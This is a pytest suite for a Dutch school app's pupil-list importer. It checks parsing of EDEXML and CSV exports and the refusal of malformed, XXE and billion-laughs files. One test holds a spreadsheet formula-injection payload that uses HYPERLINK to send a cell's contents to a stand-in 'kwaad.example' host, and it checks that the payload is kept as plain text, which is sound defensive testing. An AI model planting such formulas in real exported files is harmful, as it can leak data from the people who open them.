"""Every sample file ends as tests/data/samples/README.md says."""

from __future__ import annotations

import dataclasses
import time
from datetime import date
from pathlib import Path

import pytest

from routekaart_app.domain import names
from routekaart_app.errors import KnownError
from routekaart_app.exchange.reader import read
from routekaart_app.exchange.records import ImportFile, PupilRecord, UnknownColumns
from tests.exchange.files import SAMPLES, TODAY

FILES = sorted(path for path in SAMPLES.rglob("*") if path.suffix in (".csv", ".xml", ".xlsx"))
SECRETS = ("111111111", "GEHEIME-NOTITIE", "KANARIE", "9999ZZ", "ketenid", ".example")


def sample(name: str) -> ImportFile:
    return read(SAMPLES / name, today=TODAY)


def numbers(file: ImportFile) -> list[str]:
    return [pupil.number for pupil in file.pupils]


def pupil(file: ImportFile, number: str) -> PupilRecord:
    return next(found for found in file.pupils if found.number == number)


def refused(name: str) -> KnownError:
    with pytest.raises(KnownError) as caught:
        sample(name)
    return caught.value


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.name)
def test_no_dropped_value_appears_anywhere_and_none_takes_two_seconds(path: Path) -> None:
    start = time.perf_counter()
    try:
        seen = str(dataclasses.asdict(read(path, today=TODAY)))
    except KnownError as error:
        seen = f"{error} {error.code} {error.__cause__} {getattr(error, 'table', '')}"
    assert time.perf_counter() - start < 2
    if path.name != "formules.csv":
        assert [secret for secret in SECRETS if secret in seen] == []


def test_edexml_of_a_primary_school() -> None:
    file = sample("edexml-po.xml")
    assert (file.kind, file.school_brin, file.school_branch, file.school_year) == ("edexml", "99ZZ", "00", 2026)
    assert (file.reference_date, file.created_on, file.teachers) == (date(2026, 10, 1), date(2026, 10, 1), 2)
    assert file.source == "Testdata LOB-app"
    assert len(file.pupils) == 9
    assert [found.number for found in file.pupils if found.left] == ["10008"]
    assert pupil(file, "10008").left_on == date(2026, 7, 10)
    homes = {group.name: group for group in file.groups if group.is_home}
    assert list(homes) == ["8A", "7/8 Wezels", "7-8 Otters (Juf Fantasie)", "6B"]
    assert [homes[name].is_combination for name in homes] == [False, True, True, False]
    assert [group.name for group in file.groups if not group.is_home] == ["Plusgroep techniek"]


def test_edexml_pupils_with_half_a_name_and_a_dummy_key() -> None:
    file = sample("edexml-po.xml")
    assert (pupil(file, "10006").first_name, pupil(file, "10006").last_name) == ("Alleenroepnaam", "")
    nameless = pupil(file, "10007")
    assert names.display(nameless.first_name, nameless.prefix, nameless.last_name) == "Ismaël Testo Zonderroepnaam"
    assert nameless.group_names == ()
    assert [found.number for found in file.pupils if found.number_is_dummy] == ["#001"]
    assert pupil(file, "10003").prefix == "'t"
    assert pupil(file, "10001").group_names == ("8A", "Plusgroep techniek")


def test_edexml_equal_twins_stay_two() -> None:
    file = sample("edexml-po.xml")
    twins = [pupil(file, "10004"), pupil(file, "10005")]
    assert [(twin.stage, twin.year, *twin.group_names) for twin in twins] == [
        ("PO", 7, "7-8 Otters (Juf Fantasie)"),
        ("PO", 8, "7-8 Otters (Juf Fantasie)"),
    ]
    assert [(problem.row, problem.field, problem.severity) for problem in file.problems] == [(5, "person", "remark")]


def test_edexml_names_what_it_skipped() -> None:
    skipped = sample("edexml-po.xml").skipped_fields
    assert {"bsn", "etniciteit", "land", "gewicht_nieuw", "postcodenl", "toevoegingen", "geslacht"} <= set(skipped)


def test_edexml_of_a_secondary_school() -> None:
    file = sample("edexml-vo.xml")
    assert numbers(file) == [f"12000{number}" for number in range(1, 9)]
    assert [found.year_code for found in file.pupils] == ["11", "11", "13", "14", "15", "16", "N", "V"]
    assert [(found.stage, found.year) for found in file.pupils] == [
        ("VO", 1),
        ("VO", 1),
        ("VO", 3),
        ("VO", 4),
        ("VO", 5),
        ("VO", 6),
        ("", None),
        ("SO", None),
    ]
    assert [found.number for found in file.pupils if not found.group_names] == ["120007", "120008"]
    assert len([group for group in file.groups if group.is_home]) == 5
    assert [group.name for group in file.groups if not group.is_home] == ["m4.wi1", "LOB bedrijfsbezoek & stage"]
    assert {found.location for found in file.pupils} == {
        "Verzonnen College, locatie Noord",
        "Verzonnen College, locatie Zuid",
        "",
    }
    assert file.teachers == 1


def test_edexml_proposes_the_track_from_the_class_only() -> None:
    file = sample("edexml-vo.xml")
    assert [found.track for found in file.pupils] == ["bb/kb", "bb/kb", "", "tl", "havo", "vwo", "", ""]
    assert pupil(file, "120004").proposals == ("track",)


def test_parnassys_list() -> None:
    file = sample("parnassys-like.csv")
    assert numbers(file) == ["10001", "10002", "10003", "10004", "10005", "10008", "0010009"]
    assert [found.number for found in file.pupils if found.left] == ["10008"]
    assert pupil(file, "0010009").group_names == ("8A", "Plusgroep techniek")
    assert pupil(file, "10001").first_name == "Zoë"
    assert {found.stage for found in file.pupils} == {"PO"}
    assert file.skipped_fields == ("Geslacht", "E-mailadres")


def test_lists_and_edexml_tell_the_same_of_the_same_pupils() -> None:
    xml, table = sample("edexml-po.xml"), sample("parnassys-like.csv")
    for number in ("10001", "10002", "10003", "10004", "10005"):
        one, other = pupil(xml, number), pupil(table, number)
        assert (one.first_name, one.prefix, one.last_name, one.birth_date, one.stage, one.year) == (
            other.first_name,
            other.prefix,
            other.last_name,
            other.birth_date,
            other.stage,
            other.year,
        )


def test_magister_list() -> None:
    file = sample("magister-like.csv")
    assert numbers(file) == ["120001", "120002", "120003", "120004", "120005"]
    assert [(found.stage, found.year, found.track) for found in file.pupils] == [
        ("VO", 1, "bb/kb"),
        ("VO", 1, "bb/kb"),
        ("VO", 3, ""),
        ("VO", 4, "tl"),
        ("VO", 5, "havo"),
    ]
    assert all("year" in found.proposals for found in file.pupils)
    assert [(problem.row, problem.field, problem.severity) for problem in file.problems] == [
        (0, "year", "remark"),
        (0, "track", "remark"),
    ]
    assert file.skipped_fields == ("Klassenmentor 1",)


def test_somtoday_list() -> None:
    file = sample("somtoday-like.csv")
    assert [(found.number, found.track, found.profile, found.location) for found in file.pupils] == [
        ("120001", "bb/kb", "", "Noord"),
        ("120003", "kb", "PIE", "Zuid"),
        ("120004", "tl", "", "Noord"),
        ("120006", "vwo", "", "Noord"),
        ("120009", "havo", "", "Zuid"),
        ("120010", "havo/vwo", "", "Noord"),
    ]
    assert pupil(file, "120006").birth_date is None
    assert pupil(file, "120009").birth_date == date(2012, 2, 29)
    assert pupil(file, "120010").first_name == "Łukasz"
    assert file.problems == ()


def test_mbo_list() -> None:
    file = sample("mbo-like.csv")
    assert numbers(file) == ["0450001", "0450002", "0450003"]
    assert [(found.stage, found.year, found.level, found.pathway, found.programme_code) for found in file.pupils] == [
        ("MBO", 1, 4, "BOL", "25998"),
        ("MBO", 2, 3, "BBL", "25655"),
        ("MBO", 1, 1, "BOL", "25250"),
    ]
    assert pupil(file, "0450001").birth_date == date(2009, 5, 5)


def test_formulas_come_in_as_text() -> None:
    file = sample("nasty/formules.csv")
    assert [found.first_name for found in file.pupils] == [
        '=HYPERLINK("http://kwaad.example/?x="&A1;"klik")',
        "@SOM(1;1)",
        "+31",
        "-2+3",
        "Tab",
        "007",
        "'t Apostrof",
        "＝1+1",
    ]


def test_doubles_leave_one_certain_pupil() -> None:
    file = sample("nasty/dubbele-leerlingen.csv")
    assert [(found.row, found.number, found.group_names) for found in file.pupils] == [(2, "10", ("8A",))]
    about_persons = [problem for problem in file.problems if problem.field == "person"]
    assert [(problem.row, problem.severity) for problem in about_persons] == [
        (3, "remark"),
        (4, "remark"),
        *((row, "rejected") for row in range(5, 11)),
    ]
    assert [(doubt.pupil.number, doubt.same_as_row) for doubt in file.doubts] == [
        (number, 2) for number in ("0010", "11", "", "12", "13", "14")
    ]
    assert {doubt.pupil.birth_date for doubt in file.doubts} == {date(2015, 3, 2)}


def test_a_cut_off_file_is_refused_with_its_line() -> None:
    error = refused("nasty/afgebroken.xml")
    lines = len((SAMPLES / "nasty/afgebroken.xml").read_bytes().splitlines())
    assert error.code == "broken-xml"
    assert str(lines) in error.what or str(lines + 1) in error.what


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("xxe.xml", "doctype"),
        ("billion-laughs.xml", "doctype"),
        ("kapotte.xlsx", "no-workbook"),
        ("verkeerde-codering.xml", "encoding"),
        ("leeg.csv", "empty"),
        ("onbekende-kolommen.csv", "unknown-columns"),
    ],
)
def test_nasty_files_are_refused_in_words(name: str, code: str) -> None:
    error = refused(f"nasty/{name}")
    assert error.code == code
    assert error.what and error.safe and error.todo


def test_a_wrong_encoding_is_read_again_only_when_asked() -> None:
    file = read(SAMPLES / "nasty/verkeerde-codering.xml", today=TODAY, encoding="cp1252")
    assert [pupil(file, "10001").first_name, pupil(file, "10002").first_name] == ["Zoë", "Daniël"]
    assert "\ufffd" not in str(file)


def test_unknown_columns_come_with_a_table_to_map() -> None:
    error = refused("nasty/onbekende-kolommen.csv")
    assert isinstance(error, UnknownColumns)
    assert [(column.name, column.samples) for column in error.table.columns] == [
        ("A", ("1",)),
        ("B", ("2",)),
        ("C", ("3",)),
    ]
    chosen = error.table.mapping({"number": 0, "first_name": 1, "group": 2})
    file = read(SAMPLES / "nasty/onbekende-kolommen.csv", mapping=chosen, today=TODAY)
    assert [(found.number, found.first_name, found.group_names) for found in file.pupils] == [("1", "2", ("3",))]
